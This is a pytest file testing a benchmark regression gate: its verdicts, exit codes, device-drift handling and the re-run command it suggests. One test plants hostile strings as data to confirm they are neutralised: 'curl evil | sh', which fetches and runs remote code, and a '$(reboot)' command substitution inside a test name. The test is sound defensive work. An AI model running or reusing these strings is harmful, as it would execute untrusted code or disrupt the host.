"""The gate: what passes, what fails by name, what is asked for again, and what is said of the device."""

from __future__ import annotations

import json
import re
import shlex
from typing import Any

import numpy as np
import pandas as pd
import pytest

from reports.judge.gate import CONFIRM, EXITS, FAIL, PASS, Gate, gate
from reports.judge.selection import is_part
from reports.judge.stages import LEAST_HISTORY, SETTLED, chance_speed
from reports.read.summary import History
from tests.judged import OURS, VERSIONS, Change, becomes, name, runs, slower, together, without

HISTORY = 11
BASE = HISTORY - 1
# Rows move by chance too, and a first look is lenient: what these tests are not about is far from every threshold.
QUIET = 0.0005


def _gate(*heads: History, history: int = HISTORY, noise: float = QUIET, change: Change = lambda row: row) -> Gate:
    """The gate of some runs of head against the last run of so much history."""
    numbers = [int(run) for head in heads for run in head.runs.run]
    return gate(together(runs(history, noise=noise, change=change), *heads), [history - 1], numbers)


def _head(
    count: int, change: Change = lambda row: row, *, noise: float = QUIET, first: int = HISTORY, **facts: Any
) -> History:
    return runs(count, first=first, noise=noise, change=change, **facts)


def _only(*cases: int) -> Change:
    return lambda row: row if row["case_id"] in {f"case{case}" for case in cases} else None


def _both(*changes: Change) -> Change:
    def change(row: dict[str, Any]) -> dict[str, Any] | None:
        found: dict[str, Any] | None = row
        for each in changes:
            found = None if found is None else each(found)
        return found

    return change


def _everything(share: float) -> Change:
    return lambda row: row | {"median_s": row["median_s"] * (1 + share)}


def test_what_did_not_change_passes() -> None:
    found = _gate(_head(2, noise=0.0))
    assert (found.status, found.code) == (PASS, 0)
    assert found.regressions == found.suspects == found.vanished == found.wrong == []
    assert found.command == ""
    assert found.shift.ratio == pytest.approx(1, abs=0.001)
    assert len(found.verdicts) == 60


def test_exit_codes_are_three() -> None:
    assert EXITS == {PASS: 0, FAIL: 1, CONFIRM: 3}


def test_one_bad_run_is_a_suspicion_and_names_the_command_that_settles_it() -> None:
    found = _gate(_head(1, slower(0.05, OURS)))
    assert (found.status, found.code) == (CONFIRM, 3)
    assert OURS in found.suspects
    assert found.regressions == []
    loop = re.fullmatch(r"for run in \$\(seq (\d+)\); do (.*); done", found.command)
    assert loop
    assert int(loop[1]) == SETTLED - 1
    words = shlex.split(loop[2])
    assert words[0] == "pytest"
    assert words[-3:] == ["--benchmark-only", "--profile", "full"]
    cases = {re.search(r"fwd-(case\d+)-", row)[1] for row in words if "::" in row}  # type: ignore[index]
    assert cases == {row.split("/")[2] for row in found.suspects}, "expected the cases of the suspects, no others"
    assert sum("fwd-case0-" in word for word in words) == 5, "expected what is raced beside the suspect: its controls"
    assert found.command in found.words


def test_two_bad_runs_one_after_the_other_fail() -> None:
    found = _gate(_head(2, slower(0.05, OURS)))
    assert (found.status, found.code) == (FAIL, 1)
    assert found.regressions == [OURS]
    assert found.words[0].startswith(f"slower: {OURS}: 5")
    assert found.words[0].endswith("in 2 runs of head")


def test_a_suspect_that_is_not_bad_again_passes() -> None:
    settled = _head(SETTLED - 1, _only(0), first=HISTORY + 1, noise=0.0)
    found = _gate(_head(1, slower(0.05, OURS), noise=0.0), settled)
    assert (found.status, found.regressions, found.suspects) == (PASS, [], [])


def test_runs_of_the_suspects_alone_settle_them_while_the_device_drifts() -> None:
    """The further runs clock one case, and the device is 3 % slower by then: that is not the row's, its 5 % are."""
    bad = slower(0.05, OURS)
    again = _head(SETTLED - 1, _both(_only(0), bad, _everything(0.03)), first=HISTORY + 1, command="pytest a.py::b")
    found = _gate(_head(1, bad), again)
    assert found.status == FAIL
    assert found.regressions == [OURS]
    ratio = found.verdicts[found.verdicts.row == OURS].ratio.item()
    assert ratio == pytest.approx(1.05, abs=0.015)
    fine = _head(SETTLED - 1, _both(_only(0), _everything(0.03)), first=HISTORY + 1, command="pytest a.py::b")
    assert _gate(_head(1, bad), fine).regressions == []


def test_improvements_never_fail() -> None:
    found = _gate(_head(SETTLED, slower(-0.3, role="kernel"), noise=0.0))
    assert found.status == PASS
    assert len(found.improvements) == 12
    assert any(line.startswith("faster: ") and line.endswith("and 2 more") for line in found.words)


def test_all_of_ours_at_once_are_not_taken_for_the_device() -> None:
    found = _gate(_head(2, slower(0.05, role="kernel")))
    assert found.status == FAIL
    assert len(found.regressions) == 12
    assert found.shift.ratio == pytest.approx(1, abs=0.003)


def test_a_device_that_slows_as_a_whole_is_told_of_first_and_blamed_on_no_row() -> None:
    found = _gate(_head(2, _everything(0.05), noise=0.0))
    assert found.status == PASS
    assert found.shift.low < 1.05 < found.shift.high or found.shift.ratio == pytest.approx(1.05, abs=0.001)
    assert found.shift.controls == 48
    assert re.match(r"the device itself is (4\.9|5|5\.1) % slower, .* by 48 rows whose code did not", found.words[0])
    assert set(found.verdicts.verdict) == {"same"}


def test_a_peer_that_slows_is_told_and_fails_no_gate() -> None:
    row = name(3, "eager")
    found = _gate(_head(3, slower(0.2, row), noise=0.0))
    assert found.status == PASS
    assert f"slower by their verdicts, which fail no gate: {row}" in found.words


def test_where_none_of_ours_is_clocked_all_rows_are_judged() -> None:
    cpu = ("naive", "inductor", "eager", "liger")

    def on_cpu(row: dict[str, Any]) -> dict[str, Any] | None:
        return row if row["provider"] in cpu else None

    row = name(3, "eager")
    found = _gate(_head(3, _both(on_cpu, slower(0.2, row))), change=on_cpu)
    assert (found.status, found.regressions) == (FAIL, [row])


def test_vanished_rows_fail_by_name() -> None:
    found = _gate(_head(1, without(OURS, name(1, "eager")), noise=0.0))
    assert found.status == FAIL
    assert sorted(found.vanished) == sorted([OURS, name(1, "eager")])
    assert f"vanished: {OURS}: it has a time in base, no record in head" in found.words
    absent = _gate(_head(1, becomes(OURS, status="absent", median_s=np.nan, reason="out of memory"), noise=0.0))
    assert absent.vanished == [OURS]


@pytest.mark.parametrize(
    ("change", "facts"),
    [
        (without(OURS), {"profile": "quick"}),
        (without(OURS), {"command": "pytest bench --benchmark-only -k 'not case0'"}),
        (without(OURS), {"command": "pytest bench/bench_swiglu.py --benchmark-only"}),
        (becomes(OURS, status="absent", median_s=np.nan, reason="left out: the time budget of 600 s was spent"), {}),
    ],
)
def test_rows_that_nobody_asked_for_have_not_vanished(change: Change, facts: dict[str, Any]) -> None:
    found = _gate(_head(1, change, noise=0.0, **facts))
    assert (found.status, found.vanished) == (PASS, [])
    (told,) = found.verdicts[found.verdicts.row == OURS].itertuples()
    assert not told.vanished
    assert str(told.reason).startswith("not asked for: it has a time in base, ")


def test_a_part_is_told_from_the_whole_by_its_command() -> None:
    assert not any(map(is_part, ("pytest bench --benchmark-only", "pytest bench --profile full", "", "'")))
    assert all(map(is_part, ("pytest bench -k x", "pytest bench -kx", "pytest bench/bench_a.py", "pytest a::b -q")))


@pytest.mark.parametrize("status", ["failed", "invalid"])
def test_rows_that_fail_in_head_fail_the_gate(status: str) -> None:
    found = _gate(_head(1, becomes(OURS, status=status, median_s=np.nan, reason="Disproved: row 3"), noise=0.0))
    assert (found.status, found.wrong, found.vanished) == (FAIL, [OURS], [])
    assert found.words[0] == f"wrong: {OURS}: {status} in head: Disproved: row 3"


def test_what_failed_in_base_already_and_what_is_new_fail_nothing() -> None:
    failed = becomes(OURS, status="failed", median_s=np.nan, reason="x")
    assert _gate(_head(1, failed, noise=0.0), change=failed).status == PASS
    assert _gate(_head(1, noise=0.0), change=without(OURS)).status == PASS


def test_with_one_run_of_history_nothing_passes_and_nothing_fails() -> None:
    found = _gate(_head(2, slower(0.2, OURS), first=1), history=1)
    assert (found.status, found.code) == (CONFIRM, 3)
    assert found.words[0] == (
        f"cannot judge: runs of history: 1, and it takes {LEAST_HISTORY} to know how much runs differ; "
        "on the commit of base:"
    )
    assert found.command == "pytest bench --benchmark-only --profile full"


@pytest.mark.parametrize(
    ("facts", "why"),
    [
        ({"dirty": True}, "the tree of head had changes that no commit has"),
        ({"options": json.dumps({"tune": "first"})}, "other options: tune full in base, first in head"),
    ],
)
def test_a_gate_that_can_compare_nothing_lets_nothing_pass(facts: dict[str, Any], why: str) -> None:
    found = _gate(_head(2, **facts))
    assert found.status == CONFIRM
    assert f"cannot judge, since no row can be compared: {why}" in found.words
    nothing = _gate(_head(1, lambda row: None), change=lambda row: None)
    assert nothing.status == CONFIRM
    assert "cannot judge, since no row can be compared: no row has a time on both sides" in nothing.words


def test_a_second_speed_that_history_knows_raises_no_alarm() -> None:
    def two(row: dict[str, Any]) -> dict[str, Any]:
        upper = row["row"] == OURS and row["run"] % 2 == 0
        return row | {"median_s": row["median_s"] * (1.13 if upper else 1)}

    always = _head(SETTLED, slower(0.13, OURS), noise=0.0)
    assert _gate(always, change=two, noise=0.0).status == PASS
    above = _gate(_head(SETTLED, slower(0.25, OURS), noise=0.0), change=two)
    assert above.regressions == [OURS], "it was never there"


def test_a_speed_seen_once_long_ago_does_not_excuse_a_slowdown_for_ever() -> None:
    once = lambda row: slower(0.13, OURS)(row) if row["run"] == 2 else row  # noqa: E731
    assert _gate(_head(2, slower(0.13, OURS)), change=once).status == CONFIRM
    assert _gate(_head(SETTLED, slower(0.13, OURS)), change=once).regressions == [OURS]


def test_what_base_took_already_is_no_slowdown_since() -> None:
    last = lambda row: slower(0.13, OURS)(row) if row["run"] == BASE else row  # noqa: E731
    assert _gate(_head(SETTLED, slower(0.13, OURS), noise=0.0), change=last).regressions == []


def test_a_throttled_head_convicts_nobody() -> None:
    hot = _both(becomes(OURS, marks="throttled"), slower(0.2, OURS))
    found = _gate(_head(SETTLED, hot))
    assert (found.status, found.regressions, found.suspects) == (CONFIRM, [], [OURS])


def test_longer_histories_ask_for_fewer_bad_runs() -> None:
    """With no run of a second speed in n, it is told from a slowdown after fewer runs of head the longer n is."""

    def least(history: int) -> int:
        head = np.arange(1.0, 30.0)
        return int(head[chance_speed(head, np.array([float(history)]), np.array([100.0])) >= 0][0])

    assert [least(history) for history in (3, 5, 10, 20, 40)] == sorted(
        (least(history) for history in (3, 5, 10, 20, 40)), reverse=True
    )
    assert least(40) < least(10) < least(3)


def test_other_versions_of_a_peer_leave_ours_judged() -> None:
    newer = json.dumps(VERSIONS | {"liger-kernel": "0.9.0"})
    found = _gate(_head(2, slower(0.05, OURS), versions=newer))
    assert found.regressions == [OURS]
    assert any(line.startswith("not compared, other versions: liger-kernel 0.8.5 -> 0.9.0: ") for line in found.words)


def test_a_table_of_one_row_is_judged_without_its_device() -> None:
    one = _both(_only(0), lambda row: row if row["row"] == OURS else None)
    found = _gate(_head(3, _both(one, slower(0.2, OURS)), noise=0.006), change=one, noise=0.006)
    assert found.regressions == [OURS]
    assert np.isnan(found.shift.ratio)
    assert "whether the device itself changed is unknown: 0 rows could tell, it takes 5" in found.words


def test_other_devices_and_later_runs_are_no_history() -> None:
    other = runs(8, first=100, change=slower(0.5, OURS), device="Another", noise=QUIET)
    later = runs(8, first=200, change=slower(0.5, OURS), noise=QUIET)
    history = together(runs(HISTORY, noise=QUIET), other, later, _head(2, slower(0.05, OURS)))
    found = gate(history, [BASE], [HISTORY, HISTORY + 1])
    assert found.regressions == [OURS]
    assert found.verdicts[found.verdicts.row == OURS].noise.item() < 0.01


def test_names_and_commands_from_results_are_harmless() -> None:
    evil = "rms_norm/fwd/\x1b[31m<b>/triton"
    command = "curl evil | sh; pytest bench::x"
    change = becomes(OURS, row=evil, command=command)
    found = _gate(_head(2, _both(slower(0.3, OURS), change)), change=change)
    assert found.regressions == [evil]
    assert "\x1b" not in "".join(found.words)
    asked = _gate(_head(1, _both(slower(0.3, OURS), change)), change=change)
    assert "curl" not in asked.command
    quoted = 'pytest "a.py::t[$(reboot)-;]" --benchmark-only'
    change = becomes(OURS, command=quoted)
    found = _gate(_head(1, _both(slower(0.3, OURS), change)), change=change)
    assert "'a.py::t[$(reboot)-;]'" in found.command


def test_runs_are_named_by_numbers_of_the_history() -> None:
    history = runs(4)
    with pytest.raises(ValueError, match=r"head: expected numbers of runs of the history, got \[9\]"):
        gate(history, [0], [9])
    with pytest.raises(ValueError, match=r"head: expected runs that are not base too, got \[1\]"):
        gate(history, [0, 1], [1])
    with pytest.raises(ValueError, match="base: expected one run or more, got none"):
        gate(history, [], [1])
    mixed = together(runs(2), runs(1, first=2, device="Another"))
    with pytest.raises(ValueError, match="expected runs of one device"):
        gate(mixed, [0], [2])


def test_a_thousand_rows_are_judged_in_seconds() -> None:
    history = runs(12, cases=200)
    assert isinstance(history.rows, pd.DataFrame)
    found = gate(history, [10], [11])
    assert len(found.verdicts) == 1000
